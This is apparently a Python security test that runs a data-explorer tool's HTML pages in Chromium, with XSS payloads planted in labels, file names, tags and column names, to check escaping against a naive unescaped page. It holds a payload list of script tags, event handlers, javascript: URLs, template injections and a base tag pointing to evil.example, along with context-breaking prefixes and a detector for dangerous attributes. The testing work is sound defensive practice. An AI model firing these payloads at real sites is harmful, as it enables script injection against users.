"""Programs written where a text is expected: labels, file names, tags, names of runs, columns. None may run in a browser.

    python benchmarks/faults/injected.py [--long] [--json FILE]

Each text is a class, a file name and so an id, a tag, a value and a name of a column, and part of the names of data and run.
The explorer (all panels, the search, a selection), its file, the report and the comparison of two such runs are opened in
Chromium. A text hits where the page holds it. Lost: it was run, a dialog was opened, the page's policy had to refuse something, a
request went elsewhere, or an element came up that could run it. The short form tries 60 texts, the long form 300. The naive
way beside it: the same texts put into a page as they are.
"""

import csv
import itertools
import shutil
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np
from damage import NAIVE, blobs
from PIL import Image
from tally import Tally, fault_parser, finish

import latens
from latens.explorer import write_html
from latens.explorer.serving import Serving
from latens.explorer.tags import LONGEST, Tags
from latens.explorer.view import View
from latens.progress import Silent

SHORT, LONG = 60, 300  # texts
AT_ONCE = 60  # texts in one run
IMAGES_OF_A_CLASS, COLUMNS = 3, 12
LONGEST_NAME = 200  # bytes of a name of a run; 255 are allowed, and some are added
# Out of what is around the text.
BREAKS = (
    "",
    '">',
    "'>",
    "</script>",
    "</style>",
    "-->",
    "</title>",
    "</textarea>",
    "]]>",
    "`>",
    '\\">',
)  # out of what is around
PROGRAMS = (
    "<script>hit({})</script>",
    "<img src=x onerror=hit({})>",
    "<svg onload=hit({})>",
    "<svg/onload=hit({})//",
    "<ScRiPt>hit({})</ScRiPt>",
    "<details open ontoggle=hit({})>",
    "<input autofocus onfocus=hit({})>",
    "<audio src=x onerror=hit({})>",
    "<video><source onerror=hit({})>",
    "<iframe src=javascript:parent.hit({})>",
    '<iframe srcdoc="<script>parent.hit({})</script>">',
    "<object data=javascript:hit({})>",
    "<embed src=javascript:hit({})>",
    "<a href=javascript:hit({})>x</a>",
    "<form action=javascript:hit({})><button>x",
    "<svg><script>hit({})</script></svg>",
    "<svg><animate onbegin=hit({}) attributeName=x dur=1s>",
    "<math><style><img src=x onerror=hit({})>",
    "<noscript><p title='</noscript><img src=x onerror=hit({})>'>",
    "<!--<img src='--><img src=x onerror=hit({})//'>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart=hit({})>",
    "<meta http-equiv=refresh content='0;url=javascript:hit({})'>",
    '" autofocus onfocus=hit({}) x="',
    "' onmouseover=hit({}) x='",
    "';hit({});//",
    '";hit({});//',
    "\\';hit({});//",
    "${{hit({})}}",
    "`-hit({})-`",
    "{{{{constructor.constructor('hit({})')()}}}}",
    "javascript:hit({})",
    "\\u003cscript>hit({})\\u003c/script>",
    "&lt;img src=x onerror=hit({})&gt;",
    "%3Cscript%3Ehit({})%3C/script%3E",
    "data:text/html,<script>hit({})</script>",
    "<base href=//evil.example/><script src=hit({})></script>",
)
DANGEROUS = """() => {
  const found = [];
  for (const one of document.querySelectorAll("*")) {
    for (const {name, value} of one.attributes) {
      const leads = ["href", "xlink:href", "src", "srcdoc", "action", "formaction", "data", "poster"].includes(name);
      if (name.startsWith("on") || (leads && /^(javascript|data:text|<)/i.test(value.trim())))
        found.push(`${one.tagName} ${name}=${value}`);
    }
    const loads = ["IFRAME", "OBJECT", "EMBED", "BASE"].includes(one.tagName);
    const refreshes = one.tagName === "META" && one.httpEquiv === "refresh";
    const program = one.localName === "script" && one.type !== "application/json" && /hit\\(\\d/.test(one.textContent);
    if (loads || refreshes || program) found.push(one.outerHTML.slice(0, 200));
  }
  return found;
}"""
HELD = """() => [...document.querySelectorAll("*")].flatMap((one) =>
  [one.value ?? "", ...[...one.attributes].map(({value}) => value)]).concat(document.documentElement.textContent).join("\\n")"""


def main() -> None:
    args = fault_parser(__doc__).parse_args()
    kinds = ("the explorer", "the explorer's file", "the report", "the comparison", f"{NAIVE}the texts as they are")
    tallies = [Tally(f"{kind}: texts that are programs, in Chromium") for kind in kinds]
    path, missing = shutil.which("chromium"), ""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        missing = "playwright is not installed"
    if path is None:
        missing = "there is no chromium"
    if missing:
        for one in tallies:
            one.not_tried = missing
        sys.exit(finish(tallies, args.json))
    texts = list(itertools.islice(texts_of(), LONG if args.long else SHORT))
    with sync_playwright() as playwright, tempfile.TemporaryDirectory() as temporary:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-3d-apis"])
        for start in range(0, len(texts), AT_ONCE):
            some = dict(list(enumerate(texts))[start : start + AT_ONCE])
            folder = Path(temporary) / str(start)
            run = made(some, folder)
            compared = latens.compare(
                runs=[run, *renamed(run, some)], out=folder / next(names("comparison", some)), progress=Silent()
            )
            written = write_html(run, folder / "explorer.html")
            naive = folder / "naive.html"
            naive.write_text(
                "<!doctype html><title>naive</title>" + "".join(f"<p>{text}</p>" for text in some.values())
            )
            serving = Serving(View(latens.open_run(run.path))).start()
            addresses = [
                serving.address,
                written.as_uri(),
                (run.path / "report.html").as_uri(),
                next(compared.path.glob("*.html")).as_uri(),
                naive.as_uri(),
            ]
            for address, tally in zip(addresses, tallies, strict=True):
                seen = Seen()
                with opened(browser, address, seen) as page:
                    used(page, seen, "explorer" in tally.fault)
                count(tally, seen, some)
            serving.stop()
            serving.wait()
        browser.close()
    sys.exit(finish(tallies, args.json, lambda one: not one.fault.startswith(NAIVE)))


def texts_of() -> Iterator[str]:
    """Texts that are programs, the number of each in it: every program after one of the breaks, and so on."""
    pairs = itertools.chain.from_iterable(
        ((BREAKS[(at + turn) % len(BREAKS)], program) for at, program in enumerate(PROGRAMS))
        for turn in range(len(BREAKS))
    )
    for number, (first, program) in enumerate(pairs):
        yield first + program.format(number)


def names(name: str, texts: dict[int, str]) -> Iterator[str]:
    """Names of files or folders that hold all texts, as many in each as it may, without the one character that none can hold."""
    so_far = name
    for text in texts.values():
        more = f" {text}".replace("/", "\\")
        if len(so_far) + len(more) > LONGEST_NAME:
            yield so_far
            so_far = name
        so_far += more
    yield so_far


def renamed(run: latens.Run, texts: dict[int, str]) -> Iterator[latens.Run]:
    """Copies of a run whose names hold all texts."""
    for name in names("copy", texts):
        yield latens.open_run(shutil.copytree(run.path, run.path.parent / name))


def made(texts: dict[int, str], folder: Path) -> latens.Run:
    """A run on images whose every text is a program."""
    data = folder / next(names("data", texts))
    data.mkdir(parents=True)
    pictures, columns = blobs(np.random.default_rng(0)), list(texts.values())[:COLUMNS]
    ids: dict[str, str] = {}
    with open(data / "metadata.csv", "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["file_name", "label", *columns])
        for number, (text, again) in enumerate(itertools.product(texts.values(), range(IMAGES_OF_A_CLASS))):
            name = f"{again} {text}.png".replace("/", "\\")
            Image.fromarray(pictures[number % len(pictures)] + np.uint8(number)).save(data / name)
            writer.writerow([name, text, *([text] * len(columns))])
            ids[text] = name
    run = latens.run(
        data,
        out=folder / next(names("run", texts)),
        **{"latent_dim": 4, "epochs": 1, "samplers": ("class-means",), "device": "cpu"},
        progress=Silent(),
    )
    tags = Tags(run.path)
    for text, one in ids.items():
        if len(text) <= LONGEST and one in set(run.latents["ids"].tolist()):
            tags.change(text, [one])
    return run


class Seen:
    """What came of a page: the numbers of the texts that were run and that it held, and what else went wrong."""

    def __init__(self) -> None:
        self.run: set[int] = set()
        self.held = ""
        self.wrong: list[str] = []


@contextmanager
def opened(browser: Any, address: str, seen: Seen) -> Iterator[Any]:
    """A page that notes what it runs and asks for."""
    context = browser.new_context(viewport={"width": 1400, "height": 860})
    context.expose_function("hit", lambda number: seen.run.add(int(number)))
    page = context.new_page()
    page.set_default_timeout(60_000)
    home = "/".join(address.split("/")[:3]) + "/"

    def refuse(route: Any) -> None:
        seen.wrong.append(f"asked for {route.request.url[:200]}")
        route.abort()

    own = (home, "data:", "blob:", "about:")
    context.route(
        lambda url: not url.startswith(own) or (url.startswith("file:") and url.split("#")[0] != address), refuse
    )
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " ({violatedDirective, blockedURI, sample}) => console.error(`policy: ${violatedDirective} ${blockedURI} ${sample}`))"
    )
    page.on("dialog", lambda dialog: (seen.wrong.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda said: seen.wrong.append(said.text[:300]) if "policy: " in said.text else None)
    page.goto(address)
    page.wait_for_timeout(500)
    yield page
    context.close()


def used(page: Any, seen: Seen, explorer: bool) -> None:
    """Look at all that a page can show."""
    look(page, seen)
    tabs = page.locator("[role=tab]")
    if not explorer:
        for one in page.locator("summary").all():
            one.click()
        look(page, seen)
        return
    tabs.first.wait_for()
    page.locator(".verdict").first.wait_for()
    searched = 0
    for number in range(tabs.count()):
        tabs.nth(number).click()
        page.wait_for_timeout(1_000)
        look(page, seen)
        for one in page.locator("summary:visible").all():
            one.click()
        look(page, seen)
        field = page.locator("#find-image")
        for word in ("hit", "img", "script", "svg", "onfocus") if field.count() else ():
            field.fill(word)
            page.wait_for_timeout(700)
            look(page, seen)
            field.press("Enter")
            page.wait_for_timeout(500)
            look(page, seen)
            searched += 1
    assert searched, "the page has no search"
    box = page.locator(".map").first.bounding_box()
    for across, down in itertools.product(np.linspace(0.2, 0.8, 7), repeat=2):
        page.mouse.move(box["x"] + across * box["width"], box["y"] + down * box["height"])
        page.wait_for_timeout(60)
    look(page, seen)


def look(page: Any, seen: Seen) -> None:
    """Note what a page holds now, and what in it could run."""
    seen.held += page.evaluate(HELD)
    seen.wrong += [f"could run: {one}" for one in page.evaluate(DANGEROUS)]


def count(tally: Tally, seen: Seen, texts: dict[int, str]) -> None:
    """Add each text to a tally; what went wrong beside texts that ran is told with the first."""
    others = "; ".join(dict.fromkeys(seen.wrong))[:600]
    for number, text in texts.items():
        held = f"hit({number})" in seen.held or number in seen.run
        problem = f"was run: {text}" if number in seen.run else others
        tally.add(held, problem)
        others = ""


if __name__ == "__main__":
    main()
